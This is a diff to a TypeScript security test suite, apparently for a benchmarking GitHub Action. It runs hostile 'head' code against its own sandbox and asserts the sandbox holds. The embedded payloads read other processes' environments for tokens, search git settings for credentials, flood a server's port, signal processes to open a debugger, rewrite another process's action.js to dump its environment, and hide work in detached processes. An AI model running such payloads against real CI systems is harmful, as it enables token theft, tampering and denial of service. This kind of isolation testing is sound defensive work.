@@ -1,13 +1,20 @@
 /** Heads that reach for tokens, for our processes, and for the other side. */
 import assert from 'node:assert/strict';
-import { type Attack, LOOT } from '../attack.ts';
+import { shownWorkflow } from '../../support/act/workflows.ts';
+import { type Attack, LOOT, type Seen } from '../attack.ts';
 import { app, BUILD, server } from '../victim.ts';
 
-/** Whether this process is head's: base has no file of this name. */
+/** The attack ran, and found no token. */
 const NOT_THE_TOKEN = ({ loot, run }: { loot: string; run: { token: string } }) => {
 	assert.notEqual(loot, '', 'the attack did not run');
 	assert.equal(loot.includes(run.token), false, 'the token was found');
 };
+
+/** It looked at the process that has the token. */
+function readTheAction(seen: Seen): void {
+	NOT_THE_TOKEN(seen);
+	assert.match(seen.loot, /dist\/action\.js/);
+}
 
 const READ_EVERYTHING = `
 import { appendFileSync, readdirSync, readFileSync } from 'node:fs';
@@ -51,16 +58,16 @@ const FLOOD = `
 import { connect } from 'node:net';
 import { appendFileSync } from 'node:fs';
 import { listening } from './find.mjs';
-setTimeout(() => {
+const looking = setInterval(() => {
 	const request = 'GET /fast HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'.repeat(20);
 	for (const port of listening()) {
 		for (let n = 0; n < 4; n++) {
 			const socket = connect(port, '127.0.0.1');
 			socket.on('error', () => {}).on('data', () => socket.write(request));
-			socket.on('connect', () => { appendFileSync('${LOOT}/flood.txt', 'flooded\\n'); socket.write(request); });
+			socket.on('connect', () => { clearInterval(looking); appendFileSync('${LOOT}/flood.txt', 'flooded\\n'); socket.write(request); });
 		}
 	}
-}, 300);
+}, 100);
 `;
 
 /** What is done to every server that is not ours, again and again. */
@@ -80,19 +87,23 @@ export const REACH_HEADS: readonly Attack[] = [
 		does: 'reads the environment of every process, while it builds',
 		files: { 'build.mjs': `${READ_EVERYTHING}${BUILD}` },
 		ends: 'honest',
-		check: NOT_THE_TOKEN,
+		check: readTheAction,
 	},
 	{
 		does: 'reads the environment of every process, while it serves',
 		files: { 'bench/server.mjs': server(READ_EVERYTHING) },
 		ends: 'honest',
-		check: NOT_THE_TOKEN,
+		check: readTheAction,
 	},
 	{
 		does: "looks for credentials in git's settings",
 		files: { 'build.mjs': `${READ_CHECKOUT}${BUILD}` },
 		ends: 'honest',
-		check: NOT_THE_TOKEN,
+		check: (seen) => {
+			NOT_THE_TOKEN(seen);
+			// The engine of the tests puts no token there: what keeps it out is this line.
+			assert.match(shownWorkflow('simple'), /persist-credentials: false/);
+		},
 	},
 	{
 		does: "floods the other server's port with requests",
@@ -112,6 +123,8 @@ export const REACH_HEADS: readonly Attack[] = [
 			'bench/server.mjs': server("import './reach.mjs';"),
 		},
 		ends: 'neutral',
+		says: /the base server (api )?(crashed|exited)[^\n]*SIGKILL/,
+		check: ({ loot }) => assert.match(loot, /reached/),
 	},
 	{
 		does: 'stops and continues the other server in pulses',
@@ -133,7 +146,9 @@ export const REACH_HEADS: readonly Attack[] = [
 import { appendFileSync } from 'node:fs';
 import { processes } from './find.mjs';
 setInterval(async () => {
-	for (const pid of processes(/generator\\.cjs|action\\.js|watchdog\\.js/)) { try { process.kill(pid, 'SIGUSR1'); } catch {} }
+	for (const pid of processes(/generator\\.cjs|action\\.js|watchdog\\.js/)) {
+		try { process.kill(pid, 'SIGUSR1'); appendFileSync('${LOOT}/debugger.txt', 'signalled\\n'); } catch {}
+	}
 	try {
 		const answer = await fetch('http://127.0.0.1:9229/json');
 		appendFileSync('${LOOT}/debugger.txt', 'opened ' + await answer.text());
@@ -144,6 +159,7 @@ setInterval(async () => {
 		},
 		ends: 'honest',
 		check: ({ loot }) => {
+			assert.match(loot, /signalled/);
 			assert.match(loot, /closed/);
 			assert.doesNotMatch(loot, /opened/);
 		},
@@ -155,21 +171,26 @@ setInterval(async () => {
 			'bench/reach.mjs': `
 import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
 import { processes } from './find.mjs';
-setTimeout(() => {
+const looking = setInterval(() => {
 	for (const pid of processes(/generator\\.cjs/)) {
+		clearInterval(looking);
 		const dist = /([^\\0]*\\/dist)\\/generator\\.cjs/.exec(readFileSync('/proc/' + pid + '/cmdline', 'latin1'))[1];
 		try {
 			writeFileSync(dist + '/action.js', "require('node:fs').appendFileSync('${LOOT}/post.txt', 'post ' + JSON.stringify(process.env))");
 			appendFileSync('${LOOT}/reach.txt', 'rewrote\\n');
 		} catch (error) { appendFileSync('${LOOT}/reach.txt', error.code + '\\n'); }
 	}
-}, 300);
+}, 100);
 `,
 			'bench/server.mjs': server("import './reach.mjs';"),
 		},
 		ends: 'red',
 		says: /own files/,
-		check: NOT_THE_TOKEN,
+		check: (seen) => {
+			NOT_THE_TOKEN(seen);
+			assert.match(seen.loot, /rewrote/);
+			assert.doesNotMatch(seen.loot, /^post /m);
+		},
 	},
 	{
 		does: "changes base's files",
@@ -201,13 +222,16 @@ setInterval(() => {
 for (let n = 0; n < 3; n++) spawn(process.execPath, ['-e', 'setTimeout(() => process.exit(), 60000); for (;;);'], { detached: true, stdio: 'ignore' }).unref();`),
 		},
 		ends: 'honest',
+		check: ({ result }) =>
+			assert.ok(result?.warnings.some(({ code, message }) => code === 'leaked-children' && message.includes('(head)'))),
 	},
 	{
 		does: 'hides its work in processes that nobody is to find',
 		files: {
 			'bench/server.mjs': server(`import { spawn } from 'node:child_process';
-for (let n = 0; n < 2; n++) spawn('/bin/sh', ['-c', 'setsid "$0" -e "for (const end = Date.now() + 15000; Date.now() < end;);" &', process.execPath], { detached: true, stdio: 'ignore', env: {} }).unref();`),
+for (let n = 0; n < 2; n++) spawn('/bin/sh', ['-c', 'setsid "$0" -e "require(\'node:fs\').appendFileSync(\'${LOOT}/ran.txt\', \'ran\\\\n\'); for (const end = Date.now() + 15000; Date.now() < end;);" &', process.execPath], { detached: true, stdio: 'ignore', env: {} }).unref();`),
 		},
 		ends: 'honest',
+		check: ({ loot }) => assert.match(loot, /ran/),
 	},
 ];
